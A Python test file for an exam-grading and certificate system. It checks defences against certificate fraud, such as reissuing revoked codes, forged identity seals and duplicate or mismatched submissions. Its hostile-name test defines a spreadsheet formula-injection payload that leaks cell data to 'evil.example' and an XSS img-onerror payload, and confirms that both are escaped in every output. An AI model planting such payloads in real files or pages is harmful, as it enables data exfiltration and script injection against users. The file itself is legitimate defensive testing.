"""Issue 22's attacks on what a certificate says, each as a test (no kernels needed).

The kernels are replaced by a stand-in that answers every question correctly *for the learner
whose handout the notebook is* (its sealed metadata): exactly what a diligent learner's
notebook gives. Everything else is the real exam batch: seals, bank check, scoring,
registry, certificate pages, gradebook, reports and the similarity report.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
from pathlib import Path

import nbformat
import pytest
from resourcekit.grading import GradingError, exam_batch, issuing
from resourcekit.grading.__main__ import _grade_line
from resourcekit.grading.exam import exam_notebook, expected_for, load_exam
from resourcekit.grading.keys import key_path
from resourcekit.grading.registry import Registry
from resourcekit.grading.runner import RunResult

REPO = Path(__file__).resolve().parents[1]
EXAM = REPO / "exercises" / "exams" / "physical-separation.yml"
BANK = REPO / "exercises" / "bank" / "physical-separation.yml"
KEY = "attack-test-key-0123456789abcdef"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
IMG = "<img src=x onerror=alert(1)>"


def _private_exam(folder: Path) -> Path:
    bank = folder / "academy" / "bank.yml"
    bank.parent.mkdir(parents=True, exist_ok=True)
    bank.write_text(BANK.read_text().replace("visibility: public-practice", "visibility: private"))
    exam = folder / "academy" / "exam.yml"
    exam.write_text(EXAM.read_text().replace("bank: ../bank/physical-separation.yml",
                                             f"bank: {bank}"))
    return exam


@pytest.fixture
def academy(tmp_path, monkeypatch):
    """A private exam, handouts for four learners, and a batch grader with stand-in kernels."""
    key_path().write_text(KEY + "\n")
    os.chmod(key_path(), 0o600)
    exam_file = _private_exam(tmp_path)
    exam = load_exam(exam_file)
    cache: dict[str, dict] = {}

    def answers_for(lid: str) -> dict:
        if lid not in cache:
            cache[lid] = expected_for(exam, lid, KEY.encode())
        return cache[lid]

    def fake_run_tasks(tasks, **kw):
        out = {}
        for t in tasks:
            lid = json.loads(t.text)["metadata"]["resourcekit"]["learner_id"]
            want = answers_for(lid)
            out[t.key] = RunResult(answers={name: {"ok": True, "value": want[f"q{i}"]}
                                            for i, name in enumerate(t.names, start=1)},
                                   sandboxed=True)
        return out

    monkeypatch.setattr(exam_batch, "run_tasks", fake_run_tasks)
    monkeypatch.setattr(exam_batch, "sandbox_policy", lambda *a, **k: True)
    monkeypatch.setattr(issuing, "certificate_pdf", lambda *a, **k: None)
    handouts = tmp_path / "handouts"
    handouts.mkdir()
    names = {"alice": "Alice Tanaka", "bob": "Bob Suzuki", "carol": HYPERLINK, "dave": IMG}
    for lid, name in names.items():
        nbformat.write(exam_notebook(exam, lid, name, key=KEY.encode()),
                       handouts / f"{lid}.ipynb")

    def grade(files: dict[str, str], run: str, date: str, **kw) -> dict[str, dict]:
        subs = tmp_path / f"subs-{run}"
        subs.mkdir()
        for target, source in files.items():
            shutil.copy(handouts / f"{source}.ipynb", subs / target)
        records = exam_batch.grade_exams(subs, tmp_path / run, exam=kw.pop("exam", exam_file),
                                         date=date, **kw)
        return {r["submission"]: r for r in records}

    return {"grade": grade, "exam": exam, "exam_file": exam_file, "tmp": tmp_path,
            "handouts": handouts}


def _cli(*args):
    import contextlib
    import io
    import types

    from resourcekit.grading.__main__ import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main([str(a) for a in args])
    return types.SimpleNamespace(returncode=code, stdout=out.getvalue(), stderr=err.getvalue())


def _gradebook(path: Path) -> dict[str, dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return {r["submission"]: r for r in csv.DictReader(fh)}


# --- 2. revocation is final -----------------------------------------------------------------

def test_revoked_code_is_never_reissued_by_grading(academy):
    first = academy["grade"]({"alice.ipynb": "alice"}, "run1", "2026-05-01")["alice.ipynb"]
    code = first["certificate_code"]
    assert code.startswith("RK1.") and first["certificate_status"] == "issued"
    assert _cli("revoke", code, "--reason", "answers copied from bob").returncode == 0
    # the attack: a re-grade of the same submission the next day issued a new, valid code
    nextday = academy["grade"]({"alice.ipynb": "alice"}, "run2", "2026-05-02")["alice.ipynb"]
    assert nextday["passed"] and nextday["certificate_code"] == ""
    assert nextday["certificate_status"] == "revoked"
    assert "reinstate" in nextday["problems"][-1]
    assert not (academy["tmp"] / "run2" / "certificates").exists()
    # the same day: the code is the revoked one; nothing printed, written or paged as valid
    sameday = academy["grade"]({"alice.ipynb": "alice"}, "run3", "2026-05-01")["alice.ipynb"]
    assert sameday["certificate_code"] == "" and sameday["certificate_status"] == "revoked"
    line = _grade_line(sameday)
    assert "REVOKED" in line and "RK1." not in line
    row = _gradebook(academy["tmp"] / "run3" / "gradebook.csv")["alice.ipynb"]
    assert row["certificate_code"] == "" and row["certificate"] == "revoked"
    assert not (academy["tmp"] / "run3" / "certificates").exists()
    with Registry() as reg:
        assert [e.status for e in reg.entries()] == ["revoked"]


def test_reinstate_is_the_only_way_back_and_is_recorded(academy):
    code = academy["grade"]({"alice.ipynb": "alice"}, "run1",
                            "2026-05-01")["alice.ipynb"]["certificate_code"]
    assert _cli("revoke", code, "--reason", "suspected copying").returncode == 0
    with pytest.raises(SystemExit):  # a reason is required
        _cli("reinstate", code)
    assert _cli("reinstate", code[:-3] + "AAA", "--reason", "x").returncode == 1
    back = _cli("reinstate", code, "--reason", "appeal upheld on 2026-05-03")
    assert back.returncode == 0 and "registry: issued" in back.stdout
    again = _cli("reinstate", code, "--reason", "twice")
    assert again.returncode == 1 and "not revoked" in again.stderr.replace("is issued, not", "not")
    with Registry() as reg:
        assert [(a, r) for _, _, a, r in reg.events(code)][-2:] == [
            ("revoked", "suspected copying"), ("reinstated", "appeal upheld on 2026-05-03")]
    regraded = academy["grade"]({"alice.ipynb": "alice"}, "run2", "2026-05-04")["alice.ipynb"]
    assert regraded["certificate_status"] == "issued" and regraded["certificate_code"] != code
    assert regraded["superseded_codes"] == [code]


# --- 3. identity from the seal only ---------------------------------------------------------

def test_another_learners_file_under_my_name_touches_no_record(academy):
    genuine = academy["grade"]({"alice.ipynb": "alice"}, "run1",
                               "2026-05-01")["alice.ipynb"]["certificate_code"]
    # bob hands in his own notebook under the file name alice.ipynb (the seal names bob)
    bob = academy["grade"]({"alice.ipynb": "bob"}, "run2", "2026-05-02")["alice.ipynb"]
    assert bob["certificate_code"] == "" and bob["revoked_codes"] == []
    assert bob["certificate_status"].startswith("not certified: ")
    assert "disagrees with the sealed identity 'bob'" in bob["certificate_status"]
    with Registry() as reg:
        assert reg.lookup(genuine).status == "issued"
        assert len(reg.entries()) == 1


def test_broken_seal_is_not_certified_and_touches_nothing(academy):
    genuine = academy["grade"]({"alice.ipynb": "alice"}, "run1",
                               "2026-05-01")["alice.ipynb"]["certificate_code"]
    nb = nbformat.read(academy["handouts"] / "alice.ipynb", as_version=4)
    nb.metadata["resourcekit"]["name"] = "Mallory Forge"  # seal broken
    nbformat.write(nb, academy["handouts"] / "edited.ipynb")
    row = academy["grade"]({"alice.ipynb": "edited"}, "run2", "2026-05-02")["alice.ipynb"]
    assert row["passed"] and row["certificate_code"] == "" and row["name"] == ""
    assert row["certificate_status"] == ("not certified: the identity seal is broken (metadata "
                                         "edited, or not a handout of this exam)")
    with Registry() as reg:
        assert reg.lookup(genuine).status == "issued" and reg.events(genuine)[-1][2] == "issued"


# --- 4. two submissions for one learner -----------------------------------------------------

def test_two_files_for_one_learner_are_both_refused(academy):
    rows = academy["grade"]({"alice.ipynb": "alice", "alice.IPYNB": "alice",
                             "bob.ipynb": "bob"}, "run1", "2026-05-01")
    for name in ("alice.ipynb", "alice.IPYNB"):
        assert rows[name]["status"] == "not graded" and rows[name]["score"] == 0
        assert rows[name]["certificate_code"] == ""
        assert "alice.IPYNB, alice.ipynb" in rows[name]["problems"][0]
    assert rows["bob.ipynb"]["certificate_status"] == "issued"
    with Registry() as reg:
        assert {e.learner_id for e in reg.entries()} == {"bob"}


# --- 6. the bank of the handouts --------------------------------------------------------------

def test_handouts_from_another_bank_are_refused_naming_both(academy, tmp_path):
    public = load_exam(EXAM)  # the shipped exam and its public practice bank
    handouts = tmp_path / "public"
    handouts.mkdir()
    nbformat.write(exam_notebook(public, "alice", "Alice", key=KEY.encode()),
                   handouts / "alice.ipynb")
    meta = nbformat.read(handouts / "alice.ipynb", as_version=4).metadata["resourcekit"]
    assert meta["bank_sha256"] == public.bank_sha256 and meta["bank"] == "public-practice"
    private = academy["exam"]
    assert public.bank_sha256 != private.bank_sha256
    with pytest.raises(GradingError) as err:
        exam_batch.grade_exams(handouts, tmp_path / "out", exam=academy["exam_file"])
    text = str(err.value)
    assert public.bank_sha256[:12] in text and private.bank_sha256[:12] in text
    assert "physical-separation.yml" in text and str(private.bank_path) in text
    assert not (tmp_path / "out").exists()


def test_public_bank_handouts_say_practice(tmp_path):
    learners = tmp_path / "learners.csv"
    learners.write_text("learner_id,name\nl1,One\n")
    out = _cli("exam", EXAM, "--learners", learners, "--out", tmp_path / "h")
    assert out.returncode == 0 and "PRACTICE" in out.stdout and "--bank" in out.stdout
    first = nbformat.read(tmp_path / "h" / "l1.ipynb", as_version=4).cells[0].source
    assert "Practice handout" in first


# --- 5. learner text in every output ----------------------------------------------------------

FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_hostile_names_are_neutralised_in_every_output(academy):
    rows = academy["grade"]({"alice.ipynb": "alice", "carol.ipynb": "carol",
                             "dave.ipynb": "dave", "=1+2.ipynb": "bob",
                             f"{IMG}.ipynb": "bob"}, "run1", "2026-05-01")
    assert rows["carol.ipynb"]["name"] == HYPERLINK  # the record keeps the name as given
    results = academy["tmp"] / "run1"
    csv_files = sorted(results.glob("*.csv"))
    assert {p.name for p in csv_files} == {"gradebook.csv", "similarity.csv"}
    for path in csv_files:
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(FORMULA), (path.name, cell)
    book = _gradebook(results / "gradebook.csv")
    assert book["'=1+2.ipynb"]["status"] == "not graded"
    carol = next(r for r in book.values() if r["learner_id"] == "carol")
    assert carol["name"] == "'" + HYPERLINK
    html_files = list(results.rglob("*.html"))
    assert {p.parent.name for p in html_files} == {"reports", "certificates"}
    for path in html_files:
        text = path.read_text(encoding="utf-8")
        text = re.sub(r'<script type="application/vc\+jwt" id="openbadge-credential">'
                      r"[A-Za-z0-9_.-]+</script>", "", text)  # ours: a compact JWS only
        assert "<img" not in text and "<script" not in text, path
    assert "&lt;img src=x onerror=alert(1)&gt;" in (results / "certificates" /
                                                     "dave.html").read_text()
    md = (results / "similarity.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<", md) and r"\<img src\=x onerror\=alert\(1\)\>" in md
    assert "\\=1\\+2" in md
    # the handout itself shows the name as text, not markup
    dave = nbformat.read(academy["handouts"] / "dave.ipynb", as_version=4).cells[0].source
    assert not re.search(r"(?<!\\)<img", dave) and r"\<img" in dave


def test_missing_chromium_is_said_and_init_prints_what_to_back_up(academy, capsys):
    # the stand-in certificate_pdf makes no PDF, as on a machine without Chromium
    academy["grade"]({"alice.ipynb": "alice"}, "run1", "2026-05-01")
    err = capsys.readouterr().err
    assert "WARNING: no PDF certificates were made (1 HTML only): Chromium was not found" in err
    out = _cli("init")
    assert out.returncode == 0
    assert f"academy key:      {key_path()} (found, 0600)" in out.stdout
    assert "BACK UP the key file, the registry and credential-keys/" in out.stdout
    assert (key_path().parent / "public" / "jwks.json").is_file()
